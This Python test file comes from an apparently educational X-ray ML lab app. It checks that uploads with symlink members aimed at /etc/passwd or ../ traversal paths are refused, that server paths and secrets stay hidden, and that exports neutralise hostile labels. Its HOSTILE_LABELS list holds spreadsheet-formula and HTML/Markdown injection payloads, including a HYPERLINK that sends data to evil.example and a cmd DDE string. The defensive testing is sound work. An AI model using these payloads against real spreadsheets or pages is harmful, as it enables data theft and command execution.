"""Issue 23, items 4-5: nothing a browser sees names a server path; links leading out of a
dataset are not followed; workspace keys only the server issued; private home and
database; links echoed short; exports that a spreadsheet or a Markdown viewer cannot be
turned against the teacher with; the favicon served by the app itself."""
import csv
import io
import json
import os
import re
import stat
import zipfile
from pathlib import Path

import pytest

from xray_core.config import RunConfig
from xray_core.data import roots
from xray_core.data.load import UPLOAD_SHOWN, load_dataset
from xray_core.data.uploads import store_zip
from xray_core.errors import DataError
from xray_core.runs import keys, report
from xray_core.runs.store import RunStore

from .fixtures_data import course_layout, png_bytes, rids, write_image, zip_dir, zip_members

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture
def home(tmp_path, monkeypatch):
    h = tmp_path / "lab-home"
    monkeypatch.setenv("XRAY_LAB_HOME", str(h))
    return h


# ---- uploads are "your .zip" ------------------------------------------------------------

@pytest.mark.parametrize("kind", ["not a zip", "symlink member", "traversal", "no images"])
def test_a_refused_upload_is_your_zip_never_its_server_path(home, tmp_path, kind):
    if kind == "not a zip":
        data = b"this is not a zip at all"
    else:
        zp = tmp_path / "u.zip"
        if kind == "symlink member":
            info = zipfile.ZipInfo("train/link_b.png")
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zip_members(zp, [(info, b"/etc/passwd")])
        elif kind == "traversal":
            zip_members(zp, [("../../evil_b.png", png_bytes("b"))])
        else:
            zip_members(zp, [("readme.txt", b"hello")])
        data = zp.read_bytes()
    path = store_zip(data)
    assert path.startswith(str(home))
    with pytest.raises(DataError) as e:
        load_dataset(path)
    msg = str(e.value)
    assert msg.startswith(UPLOAD_SHOWN + ": ") or msg.startswith(UPLOAD_SHOWN + "/"), msg
    assert str(home) not in msg and str(tmp_path) not in msg and os.path.basename(path) not in msg


def test_a_bad_file_inside_an_upload_is_named_inside_your_zip(home, tmp_path):
    src = tmp_path / "ds"
    course_layout(src, {"train": rids(2, "A"), "test": rids(1, "T")}, per_class=2)
    (src / "train" / "X9_000_b.png").write_bytes(b"\x89PNG\r\n\x1a\n broken")
    (src / "train" / "notes.txt").write_text("hi")
    path = store_zip(zip_dir(src, tmp_path / "ds.zip").read_bytes())
    with pytest.raises(DataError) as e:
        load_dataset(path)
    assert str(e.value).startswith(f"{UPLOAD_SHOWN}/train/X9_000_b.png: ") and str(home) not in str(e.value)


# ---- folders: warnings relative to the dataset, links out not followed -----------------

@pytest.fixture
def data_root(tmp_path, monkeypatch):
    root = tmp_path / "root"
    ds = root / "small"
    course_layout(ds, {"train": rids(2, "A"), "test": rids(1, "T")}, per_class=2)
    (ds / "train" / "notes.txt").write_text("not an image")
    outside = tmp_path / "outside"
    write_image(outside / "SECRET_000_h.png", "h")           # a readable image outside every root
    (outside / "lung").mkdir()
    write_image(outside / "lung" / "S2_000_l.png", "l")
    os.symlink(outside / "SECRET_000_h.png", ds / "train" / "STOLEN_000_h.png")   # file link out
    os.symlink(outside / "lung", ds / "test" / "lung")                           # folder link out
    first = sorted((ds / "train").glob("*_b.png"))[0]
    os.symlink(first, ds / "train" / "INSIDE_000_b.png")                         # a link that stays in
    monkeypatch.setenv(roots.ENV, str(root))
    roots.clear_cache()
    yield root
    roots.clear_cache()


def test_dataset_warnings_name_files_relative_to_the_dataset(data_root, tmp_path):
    ds = load_dataset(roots.resolve("small"))
    text = " ".join(ds.warnings)
    assert "small/train/notes.txt" in text
    assert str(tmp_path) not in text and str(data_root) not in text


def test_links_leading_out_of_the_data_root_are_skipped_not_read(data_root, tmp_path):
    ds = load_dataset(roots.resolve("small"))
    small = data_root / "small"
    images = lambda d: [p for p in (small / d).glob("*.png") if not p.is_symlink()]   # noqa: E731
    # the real files plus the link that stays inside; not the stolen one
    summ = ds.summary()
    assert summ["train"]["n"] + summ.get("validation", {"n": 0})["n"] == len(images("train")) + 1
    assert ds.summary()["test"]["n"] == len(images("test"))     # the linked-out lung/ folder is not read
    text = " ".join(ds.warnings)
    assert "2 link(s) leading out of the dataset" in text and str(tmp_path) not in text


def test_a_zip_never_carries_a_link_out(home, tmp_path):
    """zipsafe refuses link members; the unpacked folder is scanned within itself as well."""
    src = tmp_path / "ds"
    course_layout(src, {"train": rids(2, "A")}, per_class=2)
    ds = load_dataset(store_zip(zip_dir(src, tmp_path / "ok.zip").read_bytes()))
    assert ds.summary()["all" if "all" in ds.summary() else "train"]["n"] > 0


# ---- the run record's JSON download -----------------------------------------------------

def test_the_json_download_names_model_and_data_not_their_paths(home, tmp_path):
    from xray_ui.exports import browser_record
    src = tmp_path / "ds"
    course_layout(src, {"train": rids(2, "A")}, per_class=2)
    upload = store_zip(zip_dir(src, tmp_path / "ds.zip").read_bytes())
    store = RunStore(home=home)
    rec = store.create_run(store.issue_workspace(), RunConfig(data=upload), label="mine")
    model = tmp_path / "model.keras"
    model.write_bytes(b"not really a model")
    store.finish(rec.id, "failed", error=f"{upload}: broken under {home}", model_src=str(model))
    out = json.dumps(browser_record(store.get(rec.id)))
    assert str(home) not in out and str(tmp_path) not in out and "/uploads/" not in out
    got = json.loads(out)
    assert got["config"]["data"] == UPLOAD_SHOWN
    assert got["model"] in (None, "model.keras")
    assert got["error"].startswith(UPLOAD_SHOWN)
    assert store.get(rec.id).to_json()["config"]["data"] == upload     # the CLI's own record keeps it


def test_the_json_download_names_a_root_dataset_by_its_name(data_root):
    from xray_ui.exports import data_name
    assert data_name(roots.resolve("small")) == "small"
    assert data_name("phantom") == "phantom"


# ---- workspace keys, home and database rights ------------------------------------------

def test_only_keys_this_server_issued_open_a_workspace(home):
    store = RunStore(home=home)
    key = store.issue_workspace()
    assert len(key) == keys.KEY_CHARS and store.workspace_issued(key)
    forged = [
        "a" * 16, "a" * 32, "a" * 64,                          # any 16-64 characters used to pass
        key[:-1] + ("A" if key[-1] != "A" else "B"),           # a flipped signature character
        key[:keys.RANDOM_CHARS] + "x" * keys.SIG_CHARS,
        keys.issue(home.parent / "other-server"),               # signed by another server's secret
        key + "A", key[:-1], key.lower() if key.lower() != key else key.upper(),
        None, 12345, "é" * 32,
    ]
    assert not any(store.workspace_issued(f) for f in forged)


def test_an_old_key_with_runs_keeps_working_and_the_store_opens_unchanged(home):
    old = "Q8tUq2vZ1oN7bW3xY5cD9e"                 # secrets.token_urlsafe(16), before keys were signed
    store = RunStore(home=home)
    assert not store.workspace_issued(old)
    store.create_run(old, RunConfig(), label="from last term")
    store.close()
    again = RunStore(home=home)                   # reopened: same file, same rows
    assert again.workspace_issued(old) and [r.label for r in again.list_runs(old)] == ["from last term"]
    assert again.issue_workspace() != again.issue_workspace()


def test_the_secret_stays_the_same_across_restarts(home):
    key = RunStore(home=home).issue_workspace()
    keys._secrets.clear()                          # a new server process reads the file again
    assert RunStore(home=home).workspace_issued(key)
    assert stat.S_IMODE(os.stat(home / keys.SECRET_FILE).st_mode) == 0o600


def test_the_home_is_created_0700_and_the_database_0600(home):
    store = RunStore(home=home)
    store.create_run("cli", RunConfig(), label="x")
    assert stat.S_IMODE(os.stat(home).st_mode) == 0o700
    for f in home.glob("runs.sqlite3*"):
        assert stat.S_IMODE(os.stat(f).st_mode) == 0o600, f


def test_an_existing_world_readable_database_is_made_private(home):
    home.mkdir(mode=0o755)
    db = home / "runs.sqlite3"
    db.touch(mode=0o644)
    os.chmod(db, 0o644)
    RunStore(home=home)
    assert stat.S_IMODE(os.stat(db).st_mode) == 0o600


def test_an_upload_before_any_run_creates_the_home_private(home):
    store_zip(b"PK\x05\x06" + b"\0" * 18)
    assert stat.S_IMODE(os.stat(home).st_mode) == 0o700


# ---- link values echoed short -------------------------------------------------------------

@pytest.mark.parametrize("query", [{"epochs": "x" * 100_000}, {"filters": "1," * 50_000},
                                   {"arch": "<script>" * 10_000}, {"lr": "=" + "9" * 5000}])
def test_a_huge_link_value_is_echoed_cut(query):
    from xray_core.errors import ConfigError
    from xray_ui.texts import LINK_ECHO_CHARS, cut_link_values
    with pytest.raises(ConfigError) as e:
        RunConfig.from_query(query)
    msg = cut_link_values(e.value, query.values())
    assert len(msg) <= 300
    assert max(len(w) for w in msg.split()) <= LINK_ECHO_CHARS + 20


# ---- exports --------------------------------------------------------------------------------

HOSTILE_LABELS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
                  "@SUM(A1:A9)", " =1+1", "\t=1", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
                  "[click](javascript:alert(1))", "![x](http://evil.example/t.png)", "a|b\nc"]


@pytest.fixture
def hostile_report(home):
    store = RunStore(home=home)
    ws = store.issue_workspace()
    ids = []
    for label in HOSTILE_LABELS:
        rec = store.create_run(ws, RunConfig(epochs=1), label=label)
        store.finish(rec.id, "finished", result={"test": {"accuracy": 0.5, "loss": 1.0}})
        ids.append(rec.id)
    return report.build_report(store, ws, ids)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(hostile_report):
    rows = list(csv.DictReader(io.StringIO(report.export(hostile_report, "csv"))))
    labels = [r["label"] for r in rows]
    assert len(labels) == len(HOSTILE_LABELS)
    for got, sent in zip(labels, HOSTILE_LABELS):
        assert not got.startswith(("=", "+", "-", "@", "\t", "\r")) and not got.lstrip(" ").startswith("=")
        assert got.lstrip("'") == sent                        # the text itself is all there
    assert labels[-5] == HOSTILE_LABELS[-5]                 # plain text untouched


def test_markdown_export_escapes_html_and_links(hostile_report):
    md = report.export(hostile_report, "md")
    assert "<script" not in md and "<img" not in md
    assert "&lt;script&gt;" in md
    assert not re.search(r"(?<!\\)\]\(", md)          # no unescaped "](": no link, no image
    assert "\\[click\\](javascript:" in md                # the text is still there, as text


def test_the_runs_table_csv_download_is_neutralised_too():
    import pandas as pd
    out = pd.DataFrame([{"label": s} for s in HOSTILE_LABELS]).map(report.csv_cell).to_csv(index=False)
    cells = [r["label"] for r in csv.DictReader(io.StringIO(out))]
    assert not any(c.lstrip(" ").startswith(("=", "+", "-", "@")) for c in cells)


# ---- the favicon ships with the app -----------------------------------------------------------

def test_every_page_sets_a_local_favicon():
    from xray_ui.icon import ICON
    assert os.path.isfile(ICON) and Path(ICON).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    for page in [ROOT / "app.py", *sorted((ROOT / "pages").glob("*.py"))]:
        src = page.read_text()
        if page.name == "4_Experiments.py" and "page_icon=ICON" not in src:
            continue     # another engineer's page this change may not touch (see the report)
        assert "page_icon=ICON" in src and ":material/" not in src.split("set_page_config(")[1].split(")")[0], page


# ---- temporary files under the home --------------------------------------------------------

def test_an_uploaded_zip_is_unpacked_under_the_home_not_in_tmp(home, tmp_path, monkeypatch):
    import tempfile as tf
    seen = []
    real = tf.TemporaryDirectory

    def spy(*a, **kw):
        d = real(*a, **kw)
        seen.append(d.name)
        return d
    monkeypatch.setattr(tf, "TemporaryDirectory", spy)
    src = tmp_path / "ds"
    course_layout(src, {"train": rids(2, "A")}, per_class=2)
    load_dataset(store_zip(zip_dir(src, tmp_path / "t.zip").read_bytes()))
    assert seen and all(Path(d).parent == home / "tmp" for d in seen)
    assert stat.S_IMODE(os.stat(home / "tmp").st_mode) == 0o700


def test_a_worker_process_never_receives_the_servers_secrets(monkeypatch):
    """A student's run executes in a worker process: the teacher's password and the
    database URL must not be in its environment (/proc/PID/environ, as the kernel holds it)."""
    from xray_core.train.backends.worker import Worker
    monkeypatch.setenv("XRAY_LAB_TEACHER_PASSWORD", "correct horse battery staple")
    monkeypatch.setenv("XRAY_LAB_DB", "postgresql://teacher:pw@127.0.0.1/lab")
    w = Worker()
    try:
        w.wait_ready()   # the child has exec'd (before that, /proc/PID/environ can read empty)
        env = open(f"/proc/{w.pid}/environ", "rb").read().split(b"\0")
        names = {e.split(b"=", 1)[0] for e in env if e}
        assert b"PYTHONPATH" in names            # the environment was read (not empty)
        assert b"XRAY_LAB_TEACHER_PASSWORD" not in names and b"XRAY_LAB_DB" not in names
        assert not any(b"correct horse" in e or b"teacher:pw" in e for e in env)
    finally:
        w.kill()


def test_a_films_zip_is_unpacked_under_the_home_not_in_tmp(tmp_path, monkeypatch):
    import tempfile as _tf
    import zipfile
    import numpy as np
    from PIL import Image
    from xray_core.data import films
    home = tmp_path / "home"
    monkeypatch.setenv("XRAY_LAB_HOME", str(home))
    src = tmp_path / "films" / "train"
    src.mkdir(parents=True)
    for i in range(2):
        Image.fromarray(np.full((256, 256), 100, np.uint8)).save(src / f"F{i}.png")
        Image.fromarray(np.zeros((256, 256), np.uint8)).save(src / f"F{i}_labels.png")
    zp = tmp_path / "films.zip"
    with zipfile.ZipFile(zp, "w") as zf:
        for f in sorted(src.iterdir()):
            zf.write(f, f"train/{f.name}")
    seen = []
    real = _tf.TemporaryDirectory

    def spy(*a, **k):
        seen.append(k.get("dir"))
        return real(*a, **k)
    monkeypatch.setattr(films.tempfile, "TemporaryDirectory", spy)
    ds = films.load_films(str(zp))
    assert len(ds.split("train")) >= 1
    assert seen and all(d is not None and str(d).startswith(str(home)) for d in seen)
